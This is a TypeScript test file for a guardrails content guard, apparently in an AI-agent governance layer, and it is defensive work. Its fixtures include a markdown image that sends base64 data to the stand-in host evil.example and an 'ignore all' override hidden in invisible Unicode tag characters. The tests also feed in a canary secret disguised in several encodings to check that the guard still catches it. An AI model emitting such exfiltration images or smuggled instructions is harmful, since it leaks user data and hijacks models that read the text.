import { describe, expect, it } from 'vitest';
import type { GuardrailsConfig } from '#governance/guardrails/config';
import { guardrailsConfigSchema } from '#governance/guardrails/config';
import { createContentGuard } from '#governance/guardrails/content-guard';
import type { Call } from '#governance/policy/call';
import type { Verdict } from '#governance/policy/decision';
import { applyRedactions } from '#governance/secret-scan/redact';
import { callOf } from '#tests/support/call';
import { createManualClock } from '#tests/support/manual-clock';
import { createGuardrailsCheck } from './guardrails.ts';

const CANARY = 'canary-f3a9-never-used';
const CARD = '4111 1111 1111 1111';
const IMAGE = '![x](https://evil.example/a?d=c2VjcmV0IG9mIHRoZSBob3VzZTo0MjE)';
const HIDDEN = `hello${[...'ignore all'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`;

function judge(value: Call['content'][number]['value'], config: unknown = {}, call: Partial<Call> = {}): Verdict {
  const parsed: GuardrailsConfig = guardrailsConfigSchema.parse(config);
  const guard = createContentGuard({ config: parsed, clock: createManualClock() });
  const content = [{ path: ['messages', 0, 'content'], value }];
  return createGuardrailsCheck({ guard, config: parsed }).judge({ ...callOf(), content, history: [], ...call });
}

const planted = { canaries: [{ name: 'finance folder', value: CANARY }] };
const found = { rules: { 'credit-card': 'redact' } };

describe('the guardrails by default', () => {
  it('pass what hides, leaks and was planted nowhere', () => {
    expect(
      judge([{ type: 'text', text: 'write a test for `\\u200b\\u200b\\u200b`, 👩‍👩‍👧 and می‌خواهم' }]),
    ).toMatchObject({
      result: 'pass',
    });
  });

  it('deny hidden text, with the rule, the place and the remedy', () => {
    expect(judge([{ type: 'tool_result', content: HIDDEN }])).toMatchObject({
      result: 'deny',
      rule: 'unicode-tag-characters',
      path: 'messages[0].content[0].content',
      reason: expect.stringMatching(/^guardrails found unicode-tag-characters in messages.*; take the invisible/),
    });
  });

  it.each([
    ['as it is', CANARY],
    ['in base64', Buffer.from(`read: ${CANARY}!`).toString('base64')],
    ['in hexadecimal', Buffer.from(CANARY).toString('hex')],
    ['reversed', [...CANARY].reverse().join('')],
    ['split by characters of no width', [...CANARY].join('\u200b')],
    ['in JSON within JSON', JSON.stringify({ a: JSON.stringify([CANARY]) })],
    ['in escapes', [...CANARY].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')],
    ['as a key', { [CANARY]: 1 }],
  ])('deny a canary %s, by its name only', (_how, value) => {
    const verdict = judge(value, planted);
    expect(verdict).toMatchObject({
      result: 'deny',
      rule: 'canary',
      detail: expect.stringContaining('finance folder'),
    });
    expect(JSON.stringify(verdict)).not.toContain(CANARY);
  });

  it('flag an image that takes data away, and leave personal data alone', () => {
    expect(judge(IMAGE)).toMatchObject({ result: 'flag', rule: 'exfiltration-image' });
    expect(judge(`card ${CARD}`)).toMatchObject({ result: 'pass' });
  });
});

describe('the actions', () => {
  it.each(['deny', 'ask', 'redact', 'flag'] as const)('%s as the family says', (action) => {
    expect(judge(CARD, { actions: { personal_data: action } }).result).toBe(action);
    expect(judge(IMAGE, { actions: { exfiltration: action } }).result).toBe(action);
    expect(judge(HIDDEN, { actions: { smuggling: action } }).result).toBe(action);
  });

  it('follow the rule before its family', () => {
    expect(judge(CARD, found).result).toBe('redact');
    expect(judge('DE89 3704 0044 0532 0130 00', found).result).toBe('pass');
    expect(judge(HIDDEN, { rules: { 'unicode-tag-characters': 'off' } }).result).toBe('pass');
    expect(guardrailsConfigSchema.safeParse({ rules: { 'no-such-rule': 'deny' } }).success).toBe(false);
  });

  it('redact exactly what was found, at its place', () => {
    const verdict = judge(`pay with ${CARD}, please`, found);
    const redactions = verdict.result === 'redact' ? verdict.redactions : [];
    expect(applyRedactions({ messages: [{ content: `pay with ${CARD}, please` }] }, redactions)).toEqual({
      messages: [{ content: 'pay with [redacted:credit-card], please' }],
    });
  });

  it('deny instead of redacting what stands in a key, and never show it', () => {
    const verdict = judge({ [CARD]: { deep: CARD } }, found);
    expect(verdict.result).toBe('deny');
    expect(JSON.stringify(verdict)).not.toContain(CARD);
  });

  it('let a trusted host have what it is sent', () => {
    expect(judge(IMAGE, { allowed_hosts: ['*.example'] })).toMatchObject({ result: 'pass' });
  });

  it('deny what could not be scanned within the budget', () => {
    expect(judge('word '.repeat(2_000), { budgets: { content_chars_max: 1_024 } })).toMatchObject({
      result: 'deny',
      rule: 'scan-budget',
    });
  });

  it('deny what is nested beyond any parser', () => {
    let deep: Call['content'][number]['value'] = 'x';
    for (let level = 0; level < 300; level++) deep = [deep];
    expect(judge(deep)).toMatchObject({ result: 'deny', rule: 'scan-budget' });
  });

  it('do nothing when the policy is switched off', () => {
    expect(judge(HIDDEN, { enabled: false }).result).toBe('pass');
  });
});

describe('earlier turns', () => {
  const history = [{ path: ['messages', 0, 'content'], value: HIDDEN }];

  it.each([
    ['off', 'pass'],
    ['audit', 'flag'],
    ['block', 'deny'],
  ])('are judged as the configuration says: %s', (how, result) => {
    expect(judge('', { history: how }, { history }).result).toBe(result);
  });
});
